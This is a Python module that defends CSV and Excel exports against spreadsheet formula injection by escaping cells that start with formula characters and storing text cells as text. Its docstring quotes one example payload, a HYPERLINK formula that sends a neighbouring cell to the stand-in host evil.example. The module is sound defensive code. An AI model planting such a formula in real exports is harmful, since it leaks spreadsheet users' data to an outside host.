"""CSV files and Excel workbooks meant to be opened in spreadsheet programs.

Every CSV the service hands out goes through :class:`SpreadsheetWriter`: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula by Excel or
LibreOffice (a name such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` becomes a link that
sends the neighbouring cell away), so such a cell gets a leading apostrophe, which spreadsheet
programs show as text. The standard library's :mod:`csv` does the quoting; no library defuses
formulas, so this small wrapper does.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _TextOut(Protocol):
    def write(self, text: str, /) -> object: ...


def defuse(value: str) -> str:
    """``value`` as a cell that a spreadsheet program will not run as a formula."""
    return f"'{value}" if value.startswith(FORMULA_START) else value


class SpreadsheetWriter:
    """A :func:`csv.writer` whose every cell is :func:`defuse`-d."""

    def __init__(self, out: _TextOut, *, delimiter: str = ",") -> None:
        self._writer = csv.writer(out, dialect="excel", delimiter=delimiter)

    def writerow(self, row: Iterable[str]) -> None:
        self._writer.writerow([defuse(cell) for cell in row])


def workbook(
    title: str, header: Sequence[str], rows: Iterable[Sequence[str | int | None]]
) -> bytes:
    """One sheet as an Excel workbook (``.xlsx``): the header in bold and frozen, every text
    cell stored as text (a name starting with ``=`` stays a name, not a formula; a phone
    number keeps its leading ``+`` and zeros), numbers as numbers."""
    # openpyxl is imported here: only this export needs it, and it takes a moment to load.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)

    def cell(value: str | int | None, *, font: Font | None = None) -> Any:
        written = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            written.data_type = "s"  # openpyxl would take "=…" for a formula
        if font is not None:
            written.font = font
        return written

    sheet.append([cell(name, font=bold) for name in header])
    for row in rows:
        sheet.append([cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
